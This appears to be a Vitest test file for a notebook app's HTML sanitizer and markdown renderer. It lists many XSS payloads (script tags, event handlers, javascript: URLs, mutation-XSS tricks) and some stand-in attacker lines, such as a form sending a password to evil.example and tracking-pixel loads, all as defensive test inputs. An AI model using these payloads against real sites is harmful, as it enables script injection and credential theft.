// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { renderMarkdown, renderMath } from './markdown.ts';
import { frameDocument, isVisible, sanitizeForFrame, sanitizeForMeasuring } from './sanitize.ts';

/** Everything in a piece of HTML that could run or load something. */
function dangers(html: string): string[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  const found: string[] = [];
  for (const element of template.content.querySelectorAll('*')) {
    const name = element.tagName.toLowerCase();
    if (
      [
        'script',
        'iframe',
        'object',
        'embed',
        'form',
        'base',
        'meta',
        'link',
        'foreignobject',
        'animate',
        'set',
      ].includes(name)
    )
      found.push(name);
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith('on')) found.push(attribute);
      // Control characters are ignored by browsers inside a scheme.
      // eslint-disable-next-line no-control-regex
      if (/^(?:javascript|vbscript|data:text)/i.test(value.replace(/[\u0000-\u0020]/g, '')))
        found.push(`${attribute}=${value}`);
      if (attribute === 'src' && !value.startsWith('data:image/')) found.push(`src=${value}`);
      if (['srcdoc', 'srcset', 'ping'].includes(attribute)) found.push(attribute);
    }
  }
  return found;
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://tracker.example/pixel.png">',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://example.org" ping="https://evil.example/ping">x</a>',
  '<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap=#m src="data:image/png;base64,aGk=">',
  '<math href="javascript:alert(1)"><mtext>x</mtext></math>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<video src=x onerror=alert(1)></video><audio src=x></audio>',
  '<body onload=alert(1)><p>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" srcset="https://tracker.example/x 2x">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

describe('untrusted HTML', () => {
  test.each(attacks)('in markdown runs and loads nothing: %s', (attack) => {
    expect(dangers(renderMarkdown(attack))).toEqual([]);
    expect(dangers(renderMarkdown(`text ${attack} text`))).toEqual([]);
  });

  test.each(attacks)('in an output runs and loads nothing: %s', (attack) => {
    expect(dangers(sanitizeForFrame(attack))).toEqual([]);
    expect(dangers(sanitizeForMeasuring(attack))).toEqual([]);
  });
});

describe('markdown', () => {
  test.each([
    ['[x](javascript:alert(1))'],
    ['[x](JaVaScRiPt:alert(1))'],
    ['[x](&#106;avascript:alert(1))'],
    ['![x](javascript:alert(1))'],
    ['[x](vbscript:x)'],
    ['<javascript:alert(1)>'],
    ['[x]: javascript:alert(1)\n\n[x]'],
  ])('does not link to a script: %s', (source) => {
    const html = renderMarkdown(source);
    expect(dangers(html)).toEqual([]);
    expect(html).not.toMatch(/href="?[^#h]/);
  });

  test('brings no styles, classes or ids that could imitate or break the app', () => {
    const html = renderMarkdown(
      '<style>body{display:none}</style><div style="position:fixed;inset:0" class="mantine-Modal-overlay" id="root">x</div>',
    );
    expect(html).not.toContain('style');
    expect(html).not.toContain('mantine');
    expect(html).toContain('id="user-content-root"');
  });

  test('opens links elsewhere without telling where they came from', () => {
    expect(renderMarkdown('[paper](https://example.org/a)')).toContain(
      '<a href="https://example.org/a" target="_blank" rel="noopener noreferrer">paper</a>',
    );
  });

  test('leads from a table of contents to the heading', () => {
    const html = renderMarkdown('[Go](#the-results)\n\n# The results');
    expect(html).toContain('href="#user-content-the-results"');
    expect(html).toContain('id="user-content-the-results"');
  });

  test('shows an image of another server as a link to it', () => {
    const html = renderMarkdown('![map](https://example.org/map.png)');
    expect(html).not.toContain('<img');
    expect(html).toContain('map (image on example.org)');
  });

  test('shows an attached image from the notebook itself', () => {
    const html = renderMarkdown('![map](attachment:my%20map.png)', { 'my map.png': { 'image/png': 'aGk=\n' } });
    expect(html).toContain('src="data:image/png;base64,aGk="');
  });

  test('sets mathematics and leaves money alone', () => {
    expect(renderMarkdown('Euler: $e^{i\\pi}+1=0$')).toContain('class="katex"');
    expect(renderMarkdown('$$\na_1 < b\n$$')).toContain('katex-display');
    expect(renderMarkdown('\\begin{align}a&=b\\\\c&=d\\end{align}')).toContain('katex-display');
    expect(renderMarkdown('from $5 to $10')).not.toContain('katex');
    expect(renderMarkdown('`$x$`')).toContain('<code>$x$</code>');
  });

  test('shows a formula that cannot be set as it was written, escaped', () => {
    expect(renderMath('\\frac{<img src=x onerror=alert(1)>', false)).toBe(
      '<code>\\frac{&lt;img src=x onerror=alert(1)&gt;</code>',
    );
    expect(
      dangers(
        renderMarkdown('$\\href{javascript:alert(1)}{x}$ $\\htmlClass{x}{y}$ $\\includegraphics{https://x/y.png}$'),
      ),
    ).toEqual([]);
  });

  test('shows code, escaped and coloured', () => {
    const html = renderMarkdown('```python\nprint("<script>")\n```');
    expect(html).toContain('hljs-built_in');
    expect(html).toContain('&lt;script&gt;');
  });

  test('shows tasks as signs, not as boxes to tick', () => {
    expect(renderMarkdown('- [x] done\n- [ ] open')).not.toContain('<input');
  });
});

describe('the frame of an output', () => {
  test('keeps tables, styles and drawings', () => {
    const html = sanitizeForFrame(
      '<style>td{color:red}</style><table><tr><td>1</td></tr></table><svg><rect width="5"/></svg>',
    );
    expect(html).toContain('<style>td{color:red}</style>');
    expect(html).toContain('<td>1</td>');
    expect(html).toContain('<rect');
  });

  test('loads nothing: its policy allows pictures that are in it and nothing else', () => {
    expect(frameDocument('', 'light')).toContain(
      "default-src 'none'; img-src data:; font-src data:; style-src 'unsafe-inline'",
    );
  });

  test('has no closing tag smuggled into its style', () => {
    expect(dangers(sanitizeForFrame('<style></style><script>alert(1)</script></style>'))).toEqual([]);
    expect(dangers(sanitizeForFrame('<style><img src="</style><img src=x onerror=alert(1)>"></style>'))).toEqual([]);
  });

  test('is measured without styles that could load something', () => {
    const html = sanitizeForMeasuring(
      '<p style="background:u\\72l(https://tracker.example)">a</p><p style="height:40px">b</p>',
    );
    expect(html).not.toContain('tracker');
    expect(html).toContain('height:40px');
  });

  test('is not used for HTML that shows nothing', () => {
    expect(isVisible(sanitizeForFrame('<script>draw()</script><div id="plot"></div>'))).toBe(false);
    expect(isVisible(sanitizeForFrame('<style>p{}</style>'))).toBe(false);
    expect(isVisible(sanitizeForFrame('<b>5</b>'))).toBe(true);
    expect(isVisible(sanitizeForFrame('<svg></svg>'))).toBe(true);
  });
});
